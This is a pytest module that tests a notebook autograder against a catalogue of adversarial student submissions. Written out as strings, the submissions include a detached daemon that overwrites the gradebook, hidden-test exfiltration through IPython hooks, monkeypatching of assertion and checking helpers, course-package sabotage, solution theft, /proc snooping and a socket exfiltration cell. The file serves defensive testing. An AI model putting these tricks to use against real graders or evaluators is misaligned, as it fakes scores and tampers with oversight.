"""The catalogue of adversarial and broken submissions: each must get exactly its score, and the batch goes on.

All of them are graded in one batch (2 workers) against tests/fixtures/lab99_tiny.py: 6 points in all —
double-tests 2 (three equally weighted checks), square-tests 3 (checks weighted 1 and 2), halve-tests 1 (a plain
assert cell, which passes when it runs without error).

The batch runs in the sandbox the machine allows (``sandbox`` fixture: bubblewrap in CI). Attacks that only the
sandbox stops (reading course files, rewriting the course package, the network, seeing the grader's processes)
join the catalogue only then: without it they would succeed, and the package rewrite would change this checkout.
tests/test_grading_isolation.py covers the defences that hold without the sandbox.
"""

import copy
import json
import socket
import threading
from pathlib import Path

import nbformat
import psutil
import pytest

from dlcourse.grading import build
from dlcourse.grading import cells as C
from dlcourse.grading.batch import grade_batch
from dlcourse.grading.kernel import Limits

TINY = Path(__file__).parent / "fixtures" / "lab99_tiny.py"
SOLUTION = build.read_notebook(TINY)
LAB = build.make_lab(SOLUTION)
RIGHT = {"double-answer": "def double(x):\n    return 2 * x", "square-answer": "def square(x):\n    return x * x",
         "halve-answer": "def halve(x):\n    return x / 2"}
HIDDEN_LINES = ["double(torch.tensor([-3.0, -0.5]))", "torch.arange(-2.0, 3.0)", "halve(-1.0) == -0.5"]


def answered(**overrides):
    nb = copy.deepcopy(LAB)
    answers = {**RIGHT, **{k.replace("_", "-"): v for k, v in overrides.items()}}
    for cell in nb.cells:
        if C.is_solution(cell):
            cell.source = answers[C.grade_id(cell)]
    return nb


def extra_cell(nb, after: str, source: str, cell_type: str = "code"):
    nb = copy.deepcopy(nb)
    index = next(i for i, c in enumerate(nb.cells) if C.grade_id(c) == after)
    new = nbformat.v4.new_code_cell(source) if cell_type == "code" else nbformat.v4.new_markdown_cell(source)
    nb.cells.insert(index + 1, new)
    return nb


def text(nb) -> str:
    return build.notebook_text(nb)


WRONG_DOUBLE = "def double(x):\n    return x * 2 if bool((x > 0).all()) else x  # wrong for negatives"
IDENTITY_DOUBLE = "def double(x):\n    return x"
DAEMON_MARK = "dlcourse-adversarial-daemon"


def daemon_cell(out_dir: Path) -> str:
    """A cell that leaves a daemon behind (double fork + setsid, so neither the kernel's process group nor
    PR_SET_PDEATHSIG reaches it) which rewrites the gradebook for a minute — as found through the grader's command
    line in /proc; the path is given here to make the attack certain."""
    body = (f"import pathlib, time\n# {DAEMON_MARK}\nend = time.time() + 60\nwhile time.time() < end:\n"
            f"    for name in ('grades.csv', 'grades.json'):\n        try:\n"
            f"            pathlib.Path({str(out_dir)!r}, name).write_text('student,total\\nmallory,999\\n')\n"
            f"        except OSError:\n            pass\n    time.sleep(0.05)\n")
    return ("import os, sys\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            f"        os.execv(sys.executable, [sys.executable, '-c', {body!r}])\n    os._exit(0)\nos.wait()")


def daemons_alive() -> list[psutil.Process]:
    alive = []
    for proc in psutil.process_iter(["cmdline"]):
        if any(DAEMON_MARK in part for part in proc.info["cmdline"] or []):
            alive.append(proc)
    return alive


# Every channel a cell has to smuggle hidden test code into its feedback: the test cell's source arrives through
# IPython's pre_run_cell hook and through the calling frame's line; it leaves as an exception message (double), a
# class named after it (square) and an exception class named after it (halve).
EXFILTRATE = """import linecache, sys
SEEN = []
get_ipython().events.register("pre_run_cell", lambda info: SEEN.append(info.raw_cell))

def stolen():
    frame = sys._getframe(2)
    return linecache.getline(frame.f_code.co_filename, frame.f_lineno) + "".join(SEEN[-1:])

def double(x):
    raise ValueError(stolen())"""
EXFILTRATE_SQUARE = "def square(x):\n    return type(stolen(), (), {})()"
EXFILTRATE_HALVE = "def halve(x):\n    raise type(stolen(), (Exception,), {})(stolen())"

# Only the sandbox stops these (see the module docstring).
SABOTAGE = """import pathlib, dlcourse
try:
    with open(pathlib.Path(dlcourse.__file__), "a") as f:
        f.write("\\n# every later submission now fails\\n")
except OSError:
    pass"""
STEAL = """import pathlib, re, dlcourse

def steal(name):
    for parent in pathlib.Path(dlcourse.__file__).resolve().parents:
        path = parent / "tests" / "fixtures" / "lab99_tiny.py"
        if path.exists():
            body = re.search(rf"def {name}\\(x\\):\\n    ### BEGIN SOLUTION\\n(.*?)\\n    ### END", path.read_text(),
                             re.S).group(1)
            exec(f"def {name}(x):\\n{body}", globals())
            return
    raise NotImplementedError("nothing to steal")

steal("double")"""
SNOOP = """import os
others = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        others.append(open(f"/proc/{pid}/cmdline", "rb").read())
    except OSError:
        pass
if any(b"pytest" in c or b"forkserver" in c or b"dlcourse-submissions" in c for c in others):
    def double(x):  # rewarded only if the grader's processes are visible
        return 2 * x"""


def network_cell(port: int) -> str:
    return ("import socket\ntry:\n    with socket.create_connection(('127.0.0.1', %d), timeout=2) as s:\n"
            "        s.sendall(b'exfiltrated')\nexcept OSError:\n    pass" % port)


def catalogue(out_dir: Path, sandbox: str = "none", port: int = 0) -> dict[str, tuple[object, float, str]]:
    """student -> (notebook or raw bytes, exact total, status prefix)."""
    c: dict[str, tuple[object, float, str]] = {}
    c["01-solution"] = (answered(), 6, "graded")
    c["02-blank-lab"] = (LAB, 0, "graded")
    c["03-hidden-test-catches-it"] = (answered(double_answer=WRONG_DOUBLE), 6 - 2 / 3, "graded")
    # editing a test cell to do nothing: restored from the source
    edited = answered(double_answer=IDENTITY_DOUBLE)
    next(x for x in edited.cells if C.grade_id(x) == "double-tests").source = "pass"
    c["04-edited-test-cell"] = (edited, 4 + 2 / 3, "graded")
    deleted = answered()
    deleted.cells = [x for x in deleted.cells if C.grade_id(x) != "square-tests"]
    c["05-deleted-test-cell"] = (deleted, 6, "graded")
    moved = answered()
    moved.cells = [x for x in moved.cells if not C.is_solution(x)] + [x for x in moved.cells if C.is_solution(x)]
    c["06-reordered-cells"] = (moved, 6, "graded")
    to_markdown = answered(double_answer=IDENTITY_DOUBLE)
    cell = next(x for x in to_markdown.cells if C.grade_id(x) == "double-tests")
    cell.cell_type = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)
    c["07-test-cell-turned-markdown"] = (to_markdown, 4 + 2 / 3, "graded")
    forged = answered(double_answer=IDENTITY_DOUBLE)
    fake = nbformat.v4.new_code_cell("pass")
    fake.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "locked": True, "points": 100,
                                 "schema_version": 3, "solution": False}
    forged.cells.append(fake)
    c["08-forged-graded-cell"] = (forged, 4 + 2 / 3, "graded")
    c["09-patches-torch-allclose"] = (extra_cell(answered(double_answer=IDENTITY_DOUBLE), "setup",
                                                 "import torch\ntorch.allclose = lambda *a, **k: True\n"
                                                 "torch.equal = lambda *a, **k: True"), 4 + 2 / 3, "graded")
    c["10-patches-check-helpers"] = (extra_cell(answered(double_answer=IDENTITY_DOUBLE), "setup",
                                                "import dlcourse.grading.checks as K\n"
                                                "K.compare = lambda *a, **k: (True, '')\n"
                                                "_run = K._run\n"
                                                "def cheat(kind, name, actual, expected, spec, hint):\n"
                                                "    _run(kind, name, expected, expected, spec, hint)\n"
                                                "K._run = cheat"), 1, "graded")  # only the plain assert cell
    c["11-patches-builtins-and-prints-success"] = (
        extra_cell(answered(double_answer=IDENTITY_DOUBLE, halve_answer="def halve(x):\n    return x"), "setup",
                   "import builtins, numpy.testing\nbuiltins.AssertionError = type('Nope', (Exception,), {})\n"
                   "numpy.testing.assert_allclose = lambda *a, **k: None\n"
                   "print('All tests passed! Score: 6/6')"), 3 + 2 / 3, "graded")
    c["12-sys-exit"] = (extra_cell(answered(), "setup", "import sys\nsys.exit('bye')"), 6, "graded")
    c["13-os-exit-kills-kernel"] = (answered(square_answer="import os\nos._exit(1)"), 2, "kernel died")
    c["14-segfault"] = (answered(square_answer="import ctypes\nctypes.string_at(0)"), 2, "kernel died")
    c["15-infinite-loop"] = (answered(square_answer="while True:\n    pass"), 2, "timeout")
    c["16-memory-bomb"] = (answered(square_answer="hog = [0] * 10**10\ndef square(x):\n    return x * x"), 3,
                           "graded")
    c["17-writes-into-output-folder"] = (
        extra_cell(answered(double_answer=IDENTITY_DOUBLE), "setup",
                   f"from pathlib import Path\nout = Path({str(out_dir)!r})\n"
                   "(out / 'grades.csv').write_text('student,total\\nmallory,999\\n')\n"
                   "(out / 'results').mkdir(exist_ok=True)\n"
                   "(out / 'results' / '99-victim.json').write_text('{}')\n"
                   "(out / 'planted.txt').write_text('hello')"), 4 + 2 / 3, "graded")
    c["18-error-in-hidden-test-path"] = (
        answered(double_answer="def double(x):\n    if (x < 0).any():\n        raise ValueError('no negatives')\n"
                               "    return 2 * x"), 4 + 2 / 3, "graded")
    c["19-invalid-json"] = (b"{ this is not json", 0, "invalid notebook")
    c["20-empty-file"] = (b"", 0, "invalid notebook")
    c["21-not-utf8"] = ("ünïcode".encode("latin-1") + b'{"cells": []}', 0, "invalid notebook")
    r_notebook = answered()
    r_notebook.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    c["22-r-notebook"] = (r_notebook, 0, "wrong language")
    c["23-odd name é ü"] = (answered(), 6, "graded")
    c["27-daemon-rewrites-gradebook"] = (extra_cell(answered(double_answer=IDENTITY_DOUBLE), "setup",
                                                    daemon_cell(out_dir)), 4 + 2 / 3, "graded")
    c["28-exfiltrates-hidden-tests"] = (answered(double_answer=EXFILTRATE, square_answer=EXFILTRATE_SQUARE,
                                                 halve_answer=EXFILTRATE_HALVE), 0, "graded")
    if sandbox == "bwrap":
        c["29-sabotages-course-package"] = (extra_cell(answered(double_answer=IDENTITY_DOUBLE), "setup", SABOTAGE),
                                            4 + 2 / 3, "graded")
        c["30-reads-the-solution"] = (answered(double_answer=STEAL), 4, "graded")
        c["31-network"] = (extra_cell(answered(double_answer=IDENTITY_DOUBLE), "setup", network_cell(port)),
                           4 + 2 / 3, "graded")
        c["32-sees-grader-processes"] = (extra_cell(answered(double_answer=IDENTITY_DOUBLE), "double-answer",
                                                    SNOOP), 4 + 2 / 3, "graded")
    return c


@pytest.fixture(scope="module")
def listener():
    """A TCP server on 127.0.0.1 that records what anyone sends it."""
    server = socket.create_server(("127.0.0.1", 0))
    received: list[bytes] = []

    def serve():
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                received.append(conn.recv(1024))

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], received
    server.close()


@pytest.fixture(scope="module")
def batch(tmp_path_factory, sandbox, listener):
    root = tmp_path_factory.mktemp("adversarial")
    out = root / "out"
    subs = root / "submissions"
    expected = {}
    for student, (content, total, status) in catalogue(out, sandbox, listener[0]).items():
        (subs / student).mkdir(parents=True)
        data = content if isinstance(content, bytes) else text(content).encode()
        (subs / student / "lab99_tiny.ipynb").write_bytes(data)
        expected[student] = (total, status)
    (subs / "24-no-notebook").mkdir()
    (subs / "24-no-notebook" / "notes.txt").write_text("forgot")
    expected["24-no-notebook"] = (0, "missing notebook")
    (subs / "25-two-notebooks").mkdir()
    for name in ("lab99_tiny.ipynb", "lab99_tiny (1).ipynb"):
        (subs / "25-two-notebooks" / name).write_text(text(answered()))
    expected["25-two-notebooks"] = (0, "ambiguous: 2 notebooks")
    bad_name = (b"26-latin1-\xe9").decode("utf-8", "surrogateescape")
    (subs / bad_name).mkdir()
    (subs / bad_name / "lab99_tiny.ipynb").write_text(text(answered()))
    expected["26-latin1-\ufffd"] = (6, "graded")
    limits = Limits(cell_timeout=8, submission_timeout=120, memory_mb=2048)
    results = grade_batch(TINY, subs, out, workers=2, limits=limits, sandbox=sandbox, progress=False)
    return {r.student: r for r in results}, expected, out


def test_catalogue_is_large_enough(batch):
    _, expected, _ = batch
    assert len(expected) >= 15


def test_every_submission_gets_its_exact_score_and_status(batch):
    results, expected, _ = batch
    assert set(results) == set(expected)
    for student, (total, status) in expected.items():
        result = results[student]
        assert result.total == pytest.approx(total, abs=1e-5), (student, result.total, result.status,
                                                                 [(c.grade_id, c.status, c.message)
                                                                  for c in result.cells])
        assert result.status.startswith(status), (student, result.status)
        assert result.max_points == 6


def test_partial_credit_is_per_weighted_check(batch):
    results, _, _ = batch
    double = results["03-hidden-test-catches-it"].cells[0]
    assert [(k.name, k.passed) for k in double.checks] == [
        ("double of a vector", True), ("double of negatives", False), ("graded at smoke scale", True)]
    assert double.points == pytest.approx(4 / 3) and double.status == "failed"


def test_statuses_explain_what_happened(batch):
    results, _, _ = batch
    assert results["02-blank-lab"].cells[0].status == "not attempted"
    assert [c.status for c in results["13-os-exit-kills-kernel"].cells] == ["passed", "not run", "not run"]
    assert results["15-infinite-loop"].status == "timeout: a cell ran longer than 8 s"
    memory = results["16-memory-bomb"].cells[1]
    assert memory.status == "failed" and "NameError" in memory.message


def test_no_output_of_the_grader_shows_hidden_test_code(batch):
    """Feedback, results, the gradebook and the log: none carries a hidden line, though submission 28 pushed
    them out through every channel it has."""
    results, _, out = batch
    files = [p for p in out.rglob("*") if p.is_file()]
    assert len(list((out / "feedback").glob("*.html"))) == len(results)
    for path in files:
        text_ = path.read_text(encoding="utf-8", errors="replace")
        for line in HIDDEN_LINES + ["BEGIN HIDDEN TESTS", "check_close("]:
            assert line not in text_, (path.name, line)


def test_feedback_names_builtin_errors_only_and_never_a_message(batch):
    results, _, out = batch
    page = next((out / "feedback").glob("18-error-in-hidden-test-path*.html")).read_text(encoding="utf-8")
    assert "ValueError" in page and "no negatives" not in page and "Traceback" not in page
    smuggled = results["28-exfiltrates-hidden-tests"]
    assert [c.status for c in smuggled.cells] == ["failed"] * 3
    assert smuggled.cells[2].message == "an exception"  # a class named after the test line is not shown
    assert all("ValueError" in k.message for k in smuggled.cells[0].checks)


def test_no_process_outlives_grading(batch):
    results, _, out = batch
    assert daemons_alive() == []
    rows = (out / "grades.csv").read_text(encoding="utf-8")
    assert "mallory" not in rows and "27-daemon-rewrites-gradebook" in rows


def test_sandbox_only_attacks_fail(batch, bwrap, listener):
    """Run only where the sandbox is: the course package is unchanged, no solution was read (30 scores the
    4 points of its untouched answers, not 6), nothing reached the listener, no grader process was visible."""
    results, expected, out = batch
    assert {"29-sabotages-course-package", "30-reads-the-solution", "31-network",
            "32-sees-grader-processes"} <= set(results)
    assert results["30-reads-the-solution"].cells[0].status == "not attempted"
    assert listener[1] == []
    log = (out / "grading.log").read_text(encoding="utf-8")
    assert "STOPPED" not in log and "WITHOUT a sandbox" not in log


def test_output_folder_tampering_is_undone(batch, sandbox):
    results, expected, out = batch
    rows = (out / "grades.csv").read_text(encoding="utf-8").splitlines()
    assert rows[0] == "student,double-tests,square-tests,halve-tests,total,max,status"
    assert len(rows) == 1 + len(expected) and "mallory" not in "".join(rows)
    assert not (out / "planted.txt").exists() and not (out / "results" / "99-victim.json").exists()
    log = (out / "grading.log").read_text(encoding="utf-8")
    # In the sandbox the output folder is out of the kernel's sight: nothing is planted, nothing to undo.
    planted = "removed planted.txt (written by a submission, not the grader)" in log
    assert planted == (sandbox == "none")
    data = json.loads((out / "grades.json").read_text(encoding="utf-8"))
    assert {s["student"] for s in data["students"]} == set(expected)
